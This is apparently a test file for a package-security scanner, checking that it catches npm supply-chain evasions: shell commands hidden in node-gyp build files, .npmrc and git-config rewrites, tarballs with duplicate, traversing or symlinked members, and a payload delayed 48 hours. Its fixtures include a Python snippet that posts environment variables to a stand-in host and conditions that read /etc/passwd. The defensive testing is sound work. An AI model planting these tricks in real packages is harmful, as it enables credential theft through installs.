"""Evasions 45 to 48: code in build files, in a package manager's settings, in the archive's own form, and in time."""

from __future__ import annotations

import gzip
import io
import tarfile

import pytest

from tests.builders import a_manifest, a_tarball, as_bytes
from tests.evasions.packages import BY_SHELL, THEFT, Seen, a_package, archives, hooked, packages

pytestmark = pytest.mark.semgrep

NATIVE = {"package.json": a_manifest(), "hidden.js": THEFT}
PLAIN = {**NATIVE, "stub.c": "int f(void) { return 0; }\n"}
THEFT_IN_PYTHON = (
    "import os, urllib.request\n"
    "def DoMain(args):\n"
    "    urllib.request.urlopen('https://collect.example.invalid', repr(dict(os.environ)).encode())\n"
    "    return ''\n"
)


def built(target: str, **files: str) -> dict[str, str]:
    """Make a package with a binding.gyp of one target that has these keys."""
    text = f"{{'targets': [{{'target_name': 'a', 'sources': ['stub.c'], {target}}}]}}"
    return {
        **PLAIN,
        "binding.gyp": text,
        **{name.replace("__", "/").replace("_", "."): it for name, it in files.items()},
    }


@packages(
    expansion=built("'defines': ['<!(node hidden.js)']"),
    expansion_of_lines=built("'defines': ['<!@(node hidden.js)']"),
    late_expansion=built("'defines': ['>!(node hidden.js)']"),
    latest_expansion=built("'defines': ['^!@(node hidden.js)']"),
    in_pieces=built("'defines': ['<' '!(no' 'de hidden.js)']"),
    escaped=built(r"'defines': ['<\x21(node hidden.js)']"),
    with_file=built("'defines': ['<|(list.txt <!(node hidden.js))']"),
    through_variables=built("'variables': {'go': 'node hidden.js'}, 'defines': ['<!(<(go))']"),
    action=built("'actions': [{'action_name': 'x', 'inputs': [], 'outputs': ['y'], 'action': ['node', 'hidden.js']}]"),
    rule=built("'rules': [{'rule_name': 'x', 'extension': 'c', 'outputs': [], 'action': ['node', 'hidden.js']}]"),
    postbuild=built("'postbuilds': [{'postbuild_name': 'x', 'action': ['node', 'hidden.js']}]"),
    condition=built("'conditions': [['OS==\"linux\"', {'defines': ['<!(node hidden.js)']}]]"),
    included=built("'includes': ['extra.gypi']", extra_gypi="{'defines': ['<!(node hidden.js)']}"),
)
def test_every_command_in_a_build_file_is_followed(seen: Seen) -> None:
    """45: a gyp file is a Python literal whose texts, however put together, are expanded by a shell."""
    assert seen.errors_in("hidden.js")


@packages(
    named=built("'conditions': [['__import__(\"os\").system(\"node hidden.js\")==0', {}]]"),
    escaped_name=built(r"'conditions': [['\x5f\U0000005fimport__(\"os\").system(\"node hidden.js\")==0', {}]]"),
    attribute=built("'conditions': [['OS.__class__.__base__.__subclasses__()', {}]]"),
    target_condition=built("'target_conditions': [['open(\"/etc/passwd\").read()!=\"\"', {}]]"),
)
def test_a_condition_that_is_more_than_a_comparison_is_told(seen: Seen) -> None:
    """45: node-gyp evaluates conditions, so a name that is no variable of the build is seen for what it is."""
    assert ("binding.gyp", "dynamic") in seen.blind_at


@packages(
    module=built("'defines': ['<!pymod_do_main(steal a b)']", steal_py=THEFT_IN_PYTHON),
    module_of_lines=built("'defines': ['<!@pymod_do_main(steal a)']", steal_py=THEFT_IN_PYTHON),
)
def test_a_python_module_that_a_build_file_calls_is_reached(seen: Seen) -> None:
    """45: ``pymod_do_main`` imports a module of the package and calls it."""
    assert seen.errors_in("steal.py")


@packages(
    compiler={
        **PLAIN,
        "binding.gyp": "{'make_global_settings': [['CXX', './cxx.sh']], 'targets': [{'target_name': 'a', 'sources': []}]}",
        "cxx.sh": BY_SHELL,
    },
    wrapper={
        **PLAIN,
        "binding.gyp": "{'make_global_settings': [['CXX_wrapper', 'node hidden.js']], 'targets': []}",
    },
)
def test_a_build_that_brings_its_own_compiler_is_followed(seen: Seen) -> None:
    """45: ``make_global_settings`` names programs that the build starts."""
    assert seen.errors_in("cxx.sh", "hidden.js")


@archives(
    git={"package.json": a_manifest(), ".npmrc": "git=./not-git\n"},
    script_shell={
        "package.json": a_manifest(scripts={"install": "npm run x", "x": "true"}),
        ".npmrc": "script-shell=./sh\n",
    },
    nested={**hooked("cd tools && npm install"), "tools/package.json": "{}", "tools/.npmrc": "git=./not-git\n"},
)
def test_settings_for_npm_inside_a_package_are_told(seen: Seen) -> None:
    """46: an npm that starts in the package's directory obeys its .npmrc."""
    assert "package/ships-npmrc" in seen.errors


@packages(
    settings=hooked("npm config set script-shell ./a.sh", {"a.sh": ""}),
    hooks=hooked("git config --global core.hooksPath ./hooks", {"hooks/pre-commit": "#!/bin/sh\n"}),
    registry=hooked("npm config set registry https://packages.example.invalid/"),
)
def test_settings_that_outlive_the_install_block(seen: Seen) -> None:
    """46: what is set for npm or git works on in everything that follows."""
    assert "rewrites-package-manager-settings" in seen.errors


def archive(*members: tuple[str, str], kind: bytes = tarfile.REGTYPE, form: int = tarfile.PAX_FORMAT) -> bytes:
    """Pack members by hand, under the names that are given; of any other kind only the last."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=form) as packed:
        for number, (name, text) in enumerate(members, start=1):
            member = tarfile.TarInfo(name)
            member.size = len(as_bytes(text))
            if kind != tarfile.REGTYPE and number == len(members):
                member.type, member.linkname, member.size = kind, text, 0
            packed.addfile(member, io.BytesIO(as_bytes(text)) if member.size else None)
    return gzip.compress(raw.getvalue(), mtime=0)


MANIFEST = ("package/package.json", a_manifest(scripts={"postinstall": "node a"}))


@archives(
    twice=archive(MANIFEST, ("package/a.js", ""), ("package/a.js", THEFT)),
    manifest_twice=archive(("package/package.json", a_manifest()), MANIFEST, ("package/a.js", THEFT)),
    case=archive(MANIFEST, ("package/a.js", ""), ("package/A.js", THEFT)),
    up=archive(MANIFEST, ("package/a.js", ""), ("package/../../a.js", THEFT)),
    absolute=archive(MANIFEST, ("package/a.js", ""), ("/tmp/a.js", THEFT)),
    another_top=archive(MANIFEST, ("package/a.js", ""), ("other/a.js", THEFT)),
    long_name=archive(MANIFEST, ("package/a.js", ""), (f"package/{'d/' * 200}../{'../' * 199}a.js", THEFT)),
    link=archive(MANIFEST, ("package/a.js", "../../b.js"), kind=tarfile.SYMTYPE),
)
def test_an_archive_that_two_readers_would_read_differently_hides_nothing(seen: Seen) -> None:
    """47: it is refused, or the file that npm would leave on disk is the one that is read."""
    assert seen.errors_in("a.js") or "refused" in seen.blind


@a_package(hooked("node a", {"a.js": f"setTimeout(() => {{ {THEFT} }}, 48 * 3600 * 1000)"}))
def test_a_payload_that_waits_is_seen_before_it_is_installed(seen: Seen) -> None:
    """48: the contents are judged at the moment they would be installed, and not when they act."""
    assert seen.errors_in("a.js")


@archives(plain=a_tarball(hooked("node a", {"a.js": THEFT})))
def test_the_same_theft_in_a_plain_archive_blocks(seen: Seen) -> None:
    """The measure for all others."""
    assert seen.errors_in("a.js")
